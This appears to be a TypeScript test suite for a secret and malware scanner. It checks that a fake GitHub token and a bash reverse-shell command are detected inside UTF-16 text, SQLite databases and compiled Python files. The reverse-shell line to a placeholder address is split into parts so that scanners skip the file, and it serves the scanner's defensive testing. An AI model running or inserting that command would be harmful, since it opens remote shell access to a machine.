import { execFileSync } from 'node:child_process';
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DatabaseSync } from 'node:sqlite';
import fc from 'fast-check';
import { expect, test } from 'vitest';
import { loadInspectors } from '../all-inspectors.ts';
import { readRulesFiles } from '../rules/rules-files.ts';
import { scannedFile } from '../scanned-file.fixture.ts';
import { isWide, plainTextOf } from './plain-text.ts';

const [inspector] = loadInspectors(readRulesFiles()).files;
/** Joined from parts, so that scanners find no token in this file. */
const token = ['gh', 'p_', 'R7mQ2xVb9TzKc4WnYpL8sDf3GhJ6aEu1', 'Xo5B'].join('');
const shell = ['bash -i >& /dev/t', 'cp/192.0.2.1/4444 0>&1'].join('');

async function found(path: string, content: Buffer) {
  const findings = (await inspector?.inspect(scannedFile(path, content))) ?? [];
  return findings.map((each) => [each.id, each.class === 'secret' ? each.line : undefined]);
}

/** A database with the value, and enough rows before and after it for many pages. */
function databaseWith(value: string, setup = ''): Buffer {
  const folder = mkdtempSync(join(tmpdir(), 'ward-texts-'));
  try {
    const path = join(folder, 'x.db');
    const database = new DatabaseSync(path);
    database.exec(`${setup}CREATE TABLE t (id INTEGER PRIMARY KEY, a TEXT, b TEXT)`);
    const insert = database.prepare('INSERT INTO t (a, b) VALUES (?, ?)');
    for (let row = 0; row < 200; row++) insert.run(`name${row}`, row === 100 ? value : 'x'.repeat(100));
    database.close();
    return readFileSync(path);
  } finally {
    rmSync(folder, { recursive: true });
  }
}

/** Imitates `python3 -m py_compile`: the header, and strings as marshal writes them. */
function compiled(...texts: readonly string[]): Buffer {
  const header = Buffer.alloc(16);
  header.writeUInt32LE(0x0a0d0df3, 0);
  const strings = texts.map((text) =>
    Buffer.concat([Buffer.from([0xda, text.length]), Buffer.from(text), Buffer.from('N')]),
  );
  return Buffer.concat([header, Buffer.from([0xe3, 0, 0, 0, 0]), ...strings]);
}

const bigEndian = (text: string): Buffer => Buffer.from(text, 'utf16le').swap16();
const text = `first line\nTOKEN = ${token}\n`;

test.each<[what: string, content: Buffer, line: number | undefined]>([
  ['UTF-16 with a mark', Buffer.from(`\ufeff${text}`, 'utf16le'), 2],
  ['UTF-16 without a mark', Buffer.from(text, 'utf16le'), 2],
  ['UTF-16 the other way round', bigEndian(`\ufeff${text}`), 2],
  ['UTF-16 the other way round, without a mark', bigEndian(text), 2],
  ['SQLite', databaseWith(token), undefined],
  [
    'SQLite, over several pages',
    databaseWith(`${'word '.repeat(4000)}${token} ${'word '.repeat(4000)}`),
    undefined,
  ],
  ['SQLite in UTF-16', databaseWith(token, "PRAGMA encoding = 'UTF-16be'; "), undefined],
  ['compiled Python', compiled('__name__', token, 'zzzzzzzz'), undefined],
])('a secret in %s is found', async (_what, content, line) => {
  expect(await found('app/x.bin', content)).toEqual([['github-token', line]]);
});

test.each<[what: string, content: Buffer]>([
  ['UTF-16', Buffer.from(`#!/bin/bash\n${shell}\n`, 'utf16le')],
  ['SQLite in UTF-16', databaseWith(shell, "PRAGMA encoding = 'UTF-16le'; ")],
])('malware in %s is found', async (_what, content) => {
  expect(await found('app/x.bin', content)).toEqual([['reverse-shell-bash', undefined]]);
});

test('a long file in UTF-16 is searched in the stream', () => {
  const content = Buffer.from(`${'line\n'.repeat(50_000)}${token}\n`, 'utf16le');
  const { head: _, content: __, ...facts } = scannedFile('x.txt', content, { sizeBytes: 1e9 });
  const watch = inspector?.watch?.(facts);
  for (let at = 0; at < content.length; at += 9_999) watch?.piece(content.subarray(at, at + 9_999));
  expect(watch?.end().map(({ id }) => id)).toEqual(['github-token']);
});

test('a file that Python itself compiled is read', async (context) => {
  const folder = mkdtempSync(join(tmpdir(), 'ward-texts-'));
  try {
    const program = `open('x.py', 'w').write('''A = "${token}"\n'''); import py_compile; py_compile.compile('x.py', 'x.pyc')`;
    execFileSync('python3', ['-c', program], { cwd: folder });
    expect(await found('x.pyc', readFileSync(join(folder, 'x.pyc')))).toEqual([['github-token', undefined]]);
  } catch (error) {
    if (error instanceof Error && 'code' in error && error.code === 'ENOENT') context.skip('needs Python');
    throw error;
  } finally {
    rmSync(folder, { recursive: true });
  }
});

test.each([
  ['a text', Buffer.from('plain text, and nothing else')],
  ['a program', Buffer.concat([Buffer.from('\x7fELF\x02\x01\x01'), Buffer.alloc(5000)])],
  ['zeros', Buffer.alloc(5000)],
  ['numbers', Buffer.from(Uint32Array.from({ length: 2000 }, (_, at) => at * 7919).buffer)],
])('%s is not UTF-16', (_what, content) => {
  expect(isWide(content)).toBe(false);
});

test('a damaged file never gives more text than it has bytes', () => {
  const whole = databaseWith(token);
  const python = compiled(token, 'another text');
  const change = fc.record({ at: fc.nat(whole.length - 1), to: fc.nat(255) });
  fc.assert(
    fc.property(fc.array(change, { minLength: 1, maxLength: 40 }), (changes) => {
      for (const from of [whole, python]) {
        const copy = Buffer.from(from);
        // The first page determines how the rest is read.
        for (const { at, to } of changes) copy[at % (to < 128 ? 200 : copy.length)] = to;
        expect(plainTextOf(copy)?.bytes.length ?? 0).toBeLessThanOrEqual(copy.length);
      }
    }),
    { numRuns: 200 },
  );
});
